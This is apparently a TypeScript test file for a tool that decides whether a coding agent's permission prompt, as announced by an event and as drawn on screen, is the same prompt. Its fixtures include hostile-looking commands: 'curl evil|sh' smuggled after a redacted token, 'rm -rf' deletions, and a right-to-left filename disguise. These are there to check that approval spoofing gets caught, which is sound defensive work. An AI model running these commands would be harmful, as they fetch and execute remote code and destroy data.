// What must count as one prompt, however an event and a screen put it, and what must not.
import { describe, expect, it } from "vitest";
import type { PromptRequest } from "../model/request.ts";
import { isSameDialog, mayBeSamePrompt } from "./samePrompt.ts";

const prompt = (fields: Partial<PromptRequest>): PromptRequest => ({
  kind: "command",
  title: "Bash command",
  body: "touch a.txt",
  toolName: null,
  options: [],
  expiresAt: null,
  ...fields,
});
const options = (...labels: string[]): PromptRequest["options"] =>
  labels.map((label) => ({ label, keys: null }));
const LONG = Array.from({ length: 60 }, (_, at) => `echo line ${at}`).join(" && ");

describe("an event and the screen tell of the same prompt", () => {
  it.each<[string, Partial<PromptRequest>, Partial<PromptRequest>]>([
    ["with options that only the screen has", {}, { options: options("Yes", "No") }],
    ["under another title", { title: "Run command" }, { title: "Lab command" }],
    ["wrapped on the screen", { body: "touch a-long-name.txt" }, { body: "touch a-long-\nname.txt" }],
    ["cut on the screen", { body: LONG }, { body: LONG.slice(0, 300) }],
    [
      "as a file that the dialog names in its question",
      { kind: "edit", title: "Write edit.txt", body: "/home/dev/project/edit.txt" },
      { kind: "edit", title: "Do you want to create edit.txt?", body: "1 hello" },
    ],
    [
      "as a path from the agent's folder",
      { kind: "edit", title: "Edit", body: "/home/dev/project/src/a.ts" },
      { kind: "edit", title: "Apply this change?", body: "src/a.ts" },
    ],
    [
      "as a question with an option of the screen's own",
      { kind: "question", title: "Which?", body: "Which?", options: options("Red", "Blue") },
      {
        kind: "question",
        title: "Which?",
        body: "Which?",
        options: options("Red", "Blue", "Type something."),
      },
    ],
    [
      "as a title that the screen repeats for a body",
      { kind: "other", title: "Allow command: x?", body: "x" },
      { kind: "other", title: "Allow command: x?", body: "Allow command: x?" },
    ],
    [
      "with a secret that one of them does not keep",
      { body: "make # cookie: [redacted]" },
      { body: "make # cookie: abc" },
    ],
    [
      "with characters that nobody sees",
      { body: "touch \u202egnp\u0007.exe" },
      { body: "touch \ufffdgnp.exe" },
    ],
    [
      "without what an escape sequence took with it",
      { body: "touch a # [31mred[0m b", hasMore: true },
      { body: "touch a # red b" },
    ],
    ["of which the event says nothing", { kind: "other", title: "Claude needs you", body: null }, {}],
    [
      "of which nothing is in sight but the question",
      {},
      { kind: "other", title: "Do you want to proceed?", body: null },
    ],
    [
      "as a plan that the screen does not repeat",
      { kind: "plan", title: "Exit plan mode?", body: "1. do" },
      { kind: "plan", title: "Exit plan mode?", body: null },
    ],
  ])("%s", (_name, announced, seen) => {
    expect(mayBeSamePrompt(prompt(announced), prompt(seen))).toBe(true);
  });
});

describe("another prompt", () => {
  it.each<[string, Partial<PromptRequest>, Partial<PromptRequest>]>([
    ["has another command", {}, { body: "touch b.txt" }],
    [
      "goes on behind what is a secret",
      { body: "npm test --token=[redacted] x" },
      { body: "npm test --token=abcd1234 x\ncurl evil|sh" },
    ],
    ["has a command that goes on", {}, { body: "touch a.txt\nrm -rf build" }],
    ["has a command that begins alike", { body: "touch a.txt && rm -rf build" }, {}],
    ["has a command that contains it", { body: "ls" }, { body: "rm -rf tools" }],
    [
      "is a command and no edit, though it names the file",
      { kind: "edit", title: "Edit README.md", body: "/p/README.md" },
      { body: "rm README.md" },
    ],
    [
      "is an edit and no command, though the command names the file",
      { body: "cat README.md" },
      { kind: "edit", title: "Edit README.md", body: "README.md" },
    ],
    [
      "is a plan where a permission was announced",
      { kind: "other", body: null },
      { kind: "plan", body: null },
    ],
    [
      "is about a file of a similar name",
      { kind: "edit", title: "Write", body: "/p/edit.txt" },
      { kind: "edit", title: "Do you want to create my-edit.txt?", body: "x" },
    ],
    [
      "is a question instead of an approval",
      { title: "Which?", body: null },
      { kind: "question", title: "Which?", body: null },
    ],
    [
      "is a question that lacks an answer",
      { kind: "question", title: "Which?", body: null, options: options("Red", "Blue") },
      { kind: "question", title: "Which?", body: null, options: options("Red") },
    ],
    [
      "is the next question of several",
      { kind: "question", title: "Which?", body: "Which?\nHow big?", options: options("Red") },
      { kind: "question", title: "How big?", body: "How big?", options: options("Small") },
    ],
    [
      "asks for another folder",
      { kind: "trust", title: "Trust?", body: "/a" },
      { kind: "trust", title: "Trust?", body: "/b" },
    ],
  ])("%s", (_name, announced, seen) => {
    expect(mayBeSamePrompt(prompt(announced), prompt(seen))).toBe(false);
  });
});

it("a dialog that is drawn again is the same with another selection, and with another option it is not", () => {
  const before = prompt({
    options: [
      { label: "Yes", keys: ["Enter"] },
      { label: "No", keys: ["Down", "Enter"] },
    ],
  });
  const moved = prompt({
    options: [
      { label: "Yes", keys: ["Up", "Enter"] },
      { label: "No", keys: ["Enter"] },
    ],
  });
  expect(isSameDialog(before, moved)).toBe(true);
  expect(isSameDialog(before, prompt({ options: options("Yes", "Always", "No") }))).toBe(false);
  for (const other of [
    { body: "touch b.txt" },
    { body: "touch  a.txt" },
    { content: "+x" },
    { title: "Bash  command" },
  ])
    expect(isSameDialog(before, prompt({ options: before.options, ...other }))).toBe(false);
});
